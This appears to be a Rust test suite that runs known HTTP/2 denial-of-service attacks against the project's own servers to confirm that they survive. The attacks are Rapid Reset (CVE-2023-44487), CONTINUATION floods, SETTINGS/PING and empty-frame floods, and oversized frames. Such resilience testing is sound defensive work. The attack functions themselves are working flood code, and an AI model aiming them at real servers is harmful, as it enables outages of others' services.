//! Abuse of HTTP/2 that has brought down other servers.

use std::net::SocketAddr;

use tokio::task::spawn_blocking;

use crate::{
    http2::{
        CONTINUATION, Connection, DATA, END_HEADERS, END_STREAM, End, HEADERS, PING, RST_STREAM,
        SETTINGS, WINDOW_UPDATE, frame, get, long_header,
    },
    servers::Servers,
};

const CANCEL: [u8; 4] = 8_u32.to_be_bytes();

const FLOW_CONTROL_ERROR: u32 = 3;
const FRAME_SIZE_ERROR: u32 = 6;
const ENHANCE_YOUR_CALM: u32 = 11;

/// Lets an attacker do this on each server, while others have to be answered, and after.
async fn each_server_survives(attack: fn(SocketAddr, &str) -> End, expected: fn(&End) -> bool) {
    let servers = Servers::start().await;
    for (address, path) in servers.all() {
        let attack = spawn_blocking(move || attack(address, path));
        servers.must_work().await;
        let end = attack.await.unwrap();
        assert!(expected(&end), "{address}{path}: {end:?}");
        servers.must_work().await;
    }
    servers.stop().await;
}

/// CVE-2023-44487.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn streams_that_are_reset_at_once_end_their_connection() {
    fn attack(address: SocketAddr, path: &str) -> End {
        let mut connection = Connection::open(address);
        for stream in (1..20_000).step_by(2) {
            let open = frame(HEADERS, END_HEADERS | END_STREAM, stream, &get(path));
            let both = [open, frame(RST_STREAM, 0, stream, &CANCEL)].concat();
            if connection.write(&both).is_err() {
                break;
            }
        }
        connection.end()
    }
    each_server_survives(attack, |end| matches!(end, End::Closed(None | Some(ENHANCE_YOUR_CALM))))
        .await;
}

/// CVE-2024-27316.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn headers_without_end_end_their_connection() {
    fn attack(address: SocketAddr, path: &str) -> End {
        let mut connection = Connection::open(address);
        let mut refused = connection.send(HEADERS, END_STREAM, 1, &get(path)).is_err();
        // 16 MB. A server may wait for more than its limit of headers, but not for all of this.
        let part = long_header(120).repeat(128);
        for _ in 0..1000 {
            refused = refused || connection.send(CONTINUATION, 0, 1, &part).is_err();
        }
        assert!(refused, "all of it was read");
        connection.end()
    }
    each_server_survives(attack, |end| matches!(end, End::Closed(_))).await;
}

/// Acknowledgements that nobody reads must not pile up (CVE-2019-9515, CVE-2019-9512).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn floods_of_settings_and_pings_do_no_harm() {
    fn attack(address: SocketAddr, _: &str) -> End {
        let mut connection = Connection::open(address);
        let settings = frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]).repeat(100);
        let pings = frame(PING, 0, 0, b"flooding").repeat(100);
        for _ in 0..2000 {
            // Fails when the server stops to read, as its answers are not read.
            if connection.write(&settings).and_then(|()| connection.write(&pings)).is_err() {
                break;
            }
        }
        connection.end()
    }
    each_server_survives(attack, |_| true).await;
}

/// CVE-2019-9518.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_flood_of_empty_frames_does_no_harm() {
    fn attack(address: SocketAddr, path: &str) -> End {
        let mut connection = Connection::open(address);
        let mut headers = get(path);
        headers[0] = 0x83; // POST
        let mut sent = connection.send(HEADERS, END_HEADERS, 1, &headers);
        let empty = frame(DATA, 0, 1, &[]).repeat(100);
        for _ in 0..2000 {
            sent = sent.and_then(|()| connection.write(&empty));
        }
        connection.end()
    }
    each_server_survives(attack, |_| true).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_window_beyond_its_maximum_ends_the_connection() {
    fn attack(address: SocketAddr, _: &str) -> End {
        let mut connection = Connection::open(address);
        let most = 0x7fff_ffff_u32.to_be_bytes();
        let _ = connection.send(WINDOW_UPDATE, 0, 0, &most);
        let _ = connection.send(WINDOW_UPDATE, 0, 0, &most);
        connection.end()
    }
    each_server_survives(attack, |end| *end == End::Closed(Some(FLOW_CONTROL_ERROR))).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_frame_over_the_limit_ends_the_connection_before_it_arrives() {
    fn attack(address: SocketAddr, _: &str) -> End {
        let mut connection = Connection::open(address);
        // 16 MB, of which nothing comes.
        let _ = connection.write(&[0xff, 0xff, 0xff, DATA, 0, 0, 0, 0, 1]);
        connection.end()
    }
    each_server_survives(attack, |end| *end == End::Closed(Some(FRAME_SIZE_ERROR))).await;
}
